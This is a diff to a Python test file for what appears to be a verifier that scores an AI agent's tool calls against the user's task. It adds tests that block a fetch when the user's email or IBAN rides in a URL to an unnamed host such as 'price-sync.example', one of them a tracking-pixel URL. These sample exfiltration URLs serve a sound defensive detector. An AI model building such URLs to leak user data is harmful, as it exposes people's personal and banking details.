@@ -413,7 +413,7 @@ def test_a_signal_with_zero_weight_neither_scores_nor_explains() -> None:
 
 def test_the_response_names_the_scorer_and_echoes_the_threshold() -> None:
     result = ReferenceScorer(ScorerConfig(threshold=0.65)).score(request("add"))
-    assert result.scorer == "reference/0.6"
+    assert result.scorer == "reference/0.7"
     assert result.threshold == 0.65
     assert result.drift_origin_node_id == ""
 
@@ -539,3 +539,61 @@ def test_a_look_alike_domain_off_a_sink_flags_and_malformed_labels_are_ignored()
     assert DEFAULT.score(_labelled("lookup_contact", [LOOKALIKE])).deviation_score == 0.4
     for label in ("lookalike:to:x", "lookalike::a.example:b.example", "lookalike:to:a:b:c"):
         assert DEFAULT.score(_labelled("forward_email", [label])).deviation_score == 0.0, label
+
+
+# -- the task's own values carried out in a URL ------------------------------------------
+
+_CARRY_TASK = (
+    "Get the price list from the wedding cars page; contact mira.tomas@ourmail.example, "
+    f"refunds to {IBAN_DE[:4]} {IBAN_DE[4:8]} {IBAN_DE[8:12]} {IBAN_DE[12:16]} {IBAN_DE[16:20]} {IBAN_DE[20:]}"
+)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://price-sync.example/q?name=Mira&email=mira.tomas@ourmail.example",
+        "https://price-sync.example/q?email=MIRA.TOMAS%40ourmail.example&x=1",  # encoded, other case
+        "https://price-sync.example/u/mira.tomas@ourmail.example/prices",  # in the path
+        "https://price-sync.example/pixel.gif#iban=de89+3704+0044+0532+0130+00",  # the IBAN, as printed
+        f"see https://price-sync.example/r?i={IBAN_DE} for the list",  # a URL inside text
+    ],
+)
+def test_the_tasks_own_value_in_a_url_to_a_host_it_does_not_name_blocks_even_a_fetch(url: str) -> None:
+    result = DEFAULT.score(request("fetch", server="web", task=_CARRY_TASK, arguments={"url": url}))
+    assert result.verdict == verifier_pb2.BLOCK
+    assert result.deviation_score == 0.8
+    assert "the task's own value carried in a URL: " in result.reasons[0]
+    assert "to 'price-sync.example' ('url')" in result.reasons[0]
+
+
+@pytest.mark.parametrize(
+    ("task", "url"),
+    [
+        # The host is the task's: the user sends their own data where they said.
+        (
+            "Check my order on shop.example, my email is mira@ourmail.example",
+            "https://shop.example/orders?email=mira@ourmail.example",
+        ),
+        (
+            "Check my order on shop.example, my email is mira@ourmail.example",
+            "https://eu.shop.example/orders?email=mira@ourmail.example",
+        ),
+        # Someone else's address in the query; the task's values nowhere in the URL.
+        ("Contact mira@ourmail.example about the cars", "https://cars.example/q?email=eve@evil.example"),
+        # The task's address as the URL's user info or host part is no value carried past the host.
+        ("Contact mira@ourmail.example about the cars", "https://mira@ourmail.example.cars.example/"),
+        # No task values at all.
+        ("Get the price list from the wedding cars page", "https://cars.example/q?email=mira@ourmail.example"),
+    ],
+)
+def test_a_url_carries_nothing_of_the_tasks_when_it_goes_where_the_task_says_or_holds_none(task: str, url: str) -> None:
+    result = DEFAULT.score(request("fetch", server="web", task=task, arguments={"url": url}))
+    assert all("carried in a URL" not in reason for reason in result.reasons)
+    assert result.deviation_score <= 0.4
+
+
+def test_the_tasks_value_beside_a_url_but_not_in_it_is_not_carried() -> None:
+    arguments = {"url": "https://cars.example/prices", "note": "for mira.tomas@ourmail.example"}
+    result = DEFAULT.score(request("fetch", server="web", task=_CARRY_TASK, arguments=arguments))
+    assert all("carried in a URL" not in reason for reason in result.reasons)
